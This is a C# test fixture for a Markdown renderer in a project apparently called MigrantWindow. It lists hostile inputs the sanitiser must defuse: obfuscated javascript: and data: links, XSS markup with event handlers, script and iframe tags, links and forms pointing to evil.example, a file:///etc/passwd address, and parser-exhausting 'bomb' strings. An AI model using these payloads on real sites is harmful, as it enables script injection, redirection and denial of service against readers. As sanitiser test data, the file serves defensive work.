namespace MigrantWindow.Web.Tests.Content;

/// <summary>What an editor's text must not be able to do to a reader.</summary>
internal static class HostileMarkdown
{
    /// <summary>Addresses that run something, reveal the reader, or lead where they do not say.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "\u0001javascript:alert(1)",
        "\u00a0javascript:alert(1)", "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "java\tscript:alert(1)", "java\u0000script:alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)", "&nbsp;javascript:alert(1)", "\\javascript:alert(1)",
        "javascript\\:alert(1)", "%6Aavascript:alert(1)", "javascript%3Aalert(1)", "javascript://portal.test/%0Aalert(1)", "javascript:/*https:*/alert(1)",
        "vbscript:msgbox(1)", "VbScRiPt:msgbox(1)", "vb&Tab;script:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,x", "d&#97;ta:text/html,x", "data:,x", "blob:https://portal.test/x",
        "file:///etc/passwd", "filesystem:https://portal.test/x", "ftp://evil.example/x", "http://evil.example/x", "HTTP://evil.example/x", "ws://evil.example/x",
        "view-source:https://evil.example", "about:blank", "intent://evil.example#Intent;end", "ms-word:ofe|u|https://evil.example", "sms:+50370000000",
        "//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "/\\/evil.example", "/\t/evil.example", "/&Tab;/evil.example",
        "&#47;&#47;evil.example", "&sol;&sol;evil.example", "/&bsol;evil.example", "/%5Cevil.example", "https:javascript:alert(1)", "article:", "article:<script>",
        "unknown:kind", "term:../../x", "x\" onclick=\"alert(1)", "x' onmouseover='alert(1)", "/x\"><script>alert(1)</script>", "#\" style=\"position:fixed",
    ];

    /// <summary>The ways of Markdown to write an address; {0} is its place.</summary>
    public static IReadOnlyList<string> Forms { get; } =
    [
        "[words]({0})", "[words](<{0}>)", "[words]({0} \"title\")", "![words]({0})", "![words](<{0}>)", "<{0}>", "[words][ref]\n\n[ref]: {0}", "[ref]\n\n[ref]: <{0}>",
        "![words][ref]\n\n[ref]: {0} 'title'", "[![inner]({0})]({0})", "[**words**]({0})", "> - [words]({0})", "# [words]({0})", "<a href=\"{0}\">words</a>", "{0}",
    ];

    /// <summary>Raw HTML, attributes, and what other dialects of Markdown would turn into elements.</summary>
    public static IReadOnlyList<string> Markup { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\u0000>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/pixel.png\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"https://evil.example\"></iframe>", "<object data=x></object>", "<embed src=x>", "<form action=//evil.example><input name=x></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<video src=x onerror=alert(1)></video>",
        "<audio src=x>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<p style=\"position:fixed;inset:0\">x</p>",
        "<p id=main class=exit>x</p>", "<h1>Big</h1>", "<!-- --><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?>", "<!DOCTYPE html><script>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img src=x>",
        "<template><script>alert(1)</script></template>", "<table background=//evil.example><tr><td>x</td></tr></table>", "<a href=javascript:alert(1)>x</a>",
        "<xss contenteditable onfocus=alert(1) tabindex=1>x</xss>", "text{onclick=alert(1)}", "# Heading {#main .exit onclick=alert(1)}", "[words](/x){onclick=alert(1)}",
        "[words](/x){style=\"position:fixed\"}", "**x**{onmouseover=alert(1)}", "```js onclick=alert(1)\nx\n```", "```\"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "![](https://evil.example/p.png)", "![words](/media/1.png)", "![words](media/1.png)",
        "![video](https://www.youtube.com/watch?v=x)", "![clip](clip.mp4)", "^^^ x\n^^^", ":::exit\nx\n:::", "| a |\n|---|\n| <script>x</script> |", "[^1]\n\n[^1]: <script>x</script>",
        "~~x~~ ==y== ++z++", "- [ ] task", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
        "[a]: javascript:alert(1)\n[a]", "[a](/x \"\\\" onclick=\\\"alert(1)\")", "[a](/x '\"><script>alert(1)</script>')", "<https://evil.example/\"onclick=\"alert(1)>",
        "<javascript:alert(1)>", "<JaVaScRiPt:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "<article:leave-and-return>", "<person@example.org>", "<mailto:a@example.org>",
    ];

    public static IEnumerable<string> All => [.. Forms.SelectMany(form => Addresses.Select(address => form.Replace("{0}", address, StringComparison.Ordinal))), .. Markup];

    /// <summary>Texts that cost a careless renderer seconds or its stack.</summary>
    public static IReadOnlyDictionary<string, string> Bombs { get; } = new Dictionary<string, string>
    {
        ["80 kB of open links"] = Repeat("[a](", 80_000),
        ["open links within the limit of links"] = Repeat("[a](", 4 * 499),
        ["open brackets"] = Repeat("[", 50_000),
        ["open image brackets within the limit of links"] = Repeat("![", 2 * 499),
        ["closing brackets"] = Repeat("]", 50_000),
        ["bracket pairs"] = Repeat("[a]", 50_000),
        ["double references"] = Repeat("[a][b]", 50_000),
        ["nested references"] = Repeat("[a[", 50_000) + "]: x",
        ["a reference and many uses"] = "[a]: /x\n\n" + Repeat("[a] ", 50_000),
        ["many definitions"] = Repeat("[a]: /x\n", 50_000),
        ["deep quotes"] = Repeat("> ", 50_000) + "a",
        ["deep quotes without spaces"] = Repeat(">", 50_000) + "a",
        ["deep lists"] = Repeat("- ", 50_000) + "a",
        ["deep numbered lists"] = Repeat("1. ", 50_000) + "a",
        ["lists by indent"] = string.Concat(Enumerable.Range(0, 200).Select(depth => new string(' ', depth * 2) + "- a\n")),
        ["mixed nesting"] = Repeat("> - 1. ", 50_000) + "a",
        ["stars"] = Repeat("*", 50_000),
        ["open emphasis"] = Repeat("*a ", 50_000),
        ["open strong emphasis"] = Repeat("**a ", 50_000),
        ["emphasis both ways"] = Repeat("*a_ ", 50_000),
        ["nested emphasis"] = Repeat("*a **a ", 25_000) + Repeat("b** b*", 25_000),
        ["nested emphasis of one kind"] = Repeat("*a", 25_000) + Repeat("a*", 25_000),
        ["backticks of every length"] = string.Concat(Enumerable.Range(1, 300).Select(length => new string('`', length) + "a")),
        ["open angles"] = Repeat("<", 50_000),
        ["open comments"] = Repeat("<!--", 50_000),
        ["open tags"] = Repeat("<a ", 50_000),
        ["open autolinks"] = Repeat("<https:", 50_000),
        ["ampersands"] = Repeat("&", 50_000),
        ["open entities"] = Repeat("&#x", 50_000),
        ["backslashes"] = Repeat("\\", 50_000),
        ["open fences"] = Repeat("```\n", 50_000),
        ["headings"] = Repeat("# a\n", 50_000),
        ["underlined headings"] = Repeat("a\n===\n", 50_000),
        ["rules"] = Repeat("---\n", 50_000),
        ["line ends"] = Repeat("\n", 50_000),
        ["trailing spaces"] = Repeat("a  \n", 50_000),
        ["tabs"] = Repeat("\t", 50_000),
        ["null characters"] = Repeat("\0", 50_000),
        ["open parentheses"] = "[a](" + Repeat("(", 50_000),
        ["open title"] = "[a](/x \"" + Repeat("\\\"", 50_000),
        ["tokens"] = Repeat("{{phone:x}}", 50_000),
        ["open tokens"] = Repeat("{{", 50_000),
    };

    private static string Repeat(string part, int characters) => string.Concat(Enumerable.Repeat(part, characters / part.Length));
}
